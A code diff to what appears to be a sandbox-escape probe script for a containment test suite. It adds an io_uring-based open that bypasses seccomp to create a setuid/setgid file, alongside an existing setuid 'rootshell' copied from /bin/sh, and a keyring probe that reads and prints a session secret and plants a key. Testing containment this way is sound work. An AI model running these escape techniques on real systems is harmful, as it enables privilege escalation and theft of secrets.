@@ -39,6 +39,42 @@ def write_outside(paths):
         attempt("unlink " + p, lambda p=p: os.unlink(p))
 
 
+def uring_open(path, flags, mode):
+    """open(2) through io_uring (IORING_OP_OPENAT): no seccomp filter sees its arguments."""
+    import mmap
+    params = ctypes.create_string_buffer(120)
+    fd = sys_call(425, 4, params)  # io_uring_setup(4 entries)
+    u32 = lambda off: int.from_bytes(params.raw[off:off + 4], "little")
+    sq_entries, sq_tail, sq_mask, sq_array = u32(0), u32(44), u32(48), u32(64)
+    ring = mmap.mmap(fd, sq_array + 4 * sq_entries, offset=0)
+    sqes = mmap.mmap(fd, 64 * sq_entries, offset=0x10000000)
+    name = ctypes.create_string_buffer(path.encode())
+    sqe = bytearray(64)
+    sqe[0] = 18  # IORING_OP_OPENAT
+    sqe[4:8] = (-100).to_bytes(4, "little", signed=True)  # AT_FDCWD
+    sqe[16:24] = ctypes.addressof(name).to_bytes(8, "little")
+    sqe[24:28] = mode.to_bytes(4, "little")
+    sqe[28:32] = flags.to_bytes(4, "little")
+    sqes[0:64] = bytes(sqe)
+    tail = int.from_bytes(ring[sq_tail:sq_tail + 4], "little")
+    idx = tail & int.from_bytes(ring[sq_mask:sq_mask + 4], "little")
+    ring[sq_array + 4 * idx:sq_array + 4 * idx + 4] = (0).to_bytes(4, "little")
+    ring[sq_tail:sq_tail + 4] = (tail + 1).to_bytes(4, "little")
+    return sys_call(426, fd, 1, 1, 1, None, 0)  # io_uring_enter(submit 1, wait 1, GETEVENTS)
+
+
+def keyring():
+    """The keys of the session the supervisor was started from: the payload, if read, is
+    printed (the test looks for it)."""
+    key = attempt("keyctl search", lambda: sys_call(250, 10, -3, b"user", b"escape-secret", 0))
+    if isinstance(key, int):
+        buf = ctypes.create_string_buffer(256)
+        n = attempt("keyctl read", lambda: sys_call(250, 11, key, buf, 256))
+        if isinstance(n, int):
+            print("payload", buf.raw[:n].decode(errors="replace"))
+    attempt("add_key", lambda: sys_call(248, b"user", b"planted", b"x", 1, -3))
+
+
 def setuid(dirpath):
     target = os.path.join(dirpath, "rootshell")
     attempt("copy", lambda: open(target, "wb").write(open("/bin/sh", "rb").read()))
@@ -56,6 +92,8 @@ def setuid(dirpath):
         if isinstance(fd, int):
             name = os.path.join(dirpath, f"tmpfile{mode:o}").encode()
             attempt("linkat O_TMPFILE", lambda: sys_call(265, -100, f"/proc/self/fd/{fd}".encode(), -100, name, 0x400))
+    # io_uring's own open: its mode never meets a seccomp filter.
+    attempt("io_uring open 6755", lambda: uring_open(os.path.join(dirpath, "uring"), os.O_CREAT | os.O_WRONLY, 0o6755))
     attempt("chown root", lambda: os.chown(target, 0, 0))
 
 
@@ -171,6 +209,7 @@ def main():
         "read_secret": lambda: read_secret(args),
         "write_outside": lambda: write_outside(args),
         "setuid": lambda: setuid(args[0]),
+        "keyring": keyring,
         "proc_of": lambda: proc_of(int(args[0]), args[1:]),
         "signal_outside": lambda: signal_outside(int(args[0])),
         "tiocsti": tiocsti,
